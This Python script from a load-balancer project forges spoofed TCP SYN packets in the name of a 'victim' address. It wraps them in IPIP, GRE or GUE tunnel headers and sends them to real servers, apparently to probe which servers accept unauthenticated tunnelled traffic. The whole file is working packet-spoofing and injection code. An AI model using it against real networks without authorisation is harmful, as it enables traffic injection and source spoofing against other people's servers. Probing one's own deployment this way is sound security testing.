# Copyright (c) 2026 The mixed_lb.stack authors
# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Sends SYNs to real servers as a director would wrap them, but from this host: ``forge.py WRAP VICTIM PORT VIP RIP...``.

``WRAP`` is ipip, gre, gre+csum or gue:UDP-PORT. Inside, the victim asks the VIP at 8080; from PORT on, each RIP's SYN has
the next source port, so that an answer tells who was deceived.
"""

from __future__ import annotations

import socket
import struct
import sys


def checksum(data: bytes) -> int:
    """The Internet's checksum."""
    data += bytes(len(data) % 2)
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return ~(total + (total >> 16)) & 0xFFFF


def family(address: str) -> socket.AddressFamily:
    return socket.AF_INET6 if ":" in address else socket.AF_INET


def syn(victim: str, port: int, vip: str) -> bytes:
    """An IP packet with a SYN in it."""
    addresses = socket.inet_pton(family(victim), victim) + socket.inet_pton(family(vip), vip)
    tcp = struct.pack("!HHIIBBHHH", port, 8080, 1, 0, 5 << 4, 2, 64240, 0, 0)
    pseudo = addresses + struct.pack("!II", len(tcp), socket.IPPROTO_TCP)
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    if ":" in vip:
        return struct.pack("!IHBB", 6 << 28, len(tcp), socket.IPPROTO_TCP, 64) + addresses + tcp
    head = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(tcp), 1, 0, 64, socket.IPPROTO_TCP, 0)
    return head[:10] + struct.pack("!H", checksum(head + addresses)) + addresses + tcp


def gre(packet: bytes, summed: bool) -> bytes:
    """The packet with GRE's header before it."""
    kind = 0x86DD if packet[0] >> 4 == 6 else 0x0800
    if not summed:
        return struct.pack("!HH", 0, kind) + packet
    wrapped = struct.pack("!HHHH", 0x8000, kind, 0, 0) + packet
    return wrapped[:4] + struct.pack("!H", checksum(wrapped)) + wrapped[6:]


def main() -> None:
    wrap, victim, port, vip, *rips = sys.argv[1:]
    protocol = socket.IPPROTO_IPV6 if ":" in vip else socket.IPPROTO_IPIP
    for number, rip in enumerate(rips):
        packet = syn(victim, int(port) + number, vip)
        kind, udp, how = socket.SOCK_RAW, 0, protocol
        if wrap.startswith("gre"):
            packet, how = gre(packet, wrap == "gre+csum"), socket.IPPROTO_GRE
        elif wrap.startswith("gue"):
            packet = struct.pack("!BBH", 0, protocol, 0) + packet
            kind, udp, how = socket.SOCK_DGRAM, int(wrap.partition(":")[2]), socket.IPPROTO_UDP
        with socket.socket(family(rip), kind, how) as sock:
            sock.sendto(packet, (rip, udp))


if __name__ == "__main__":
    main()
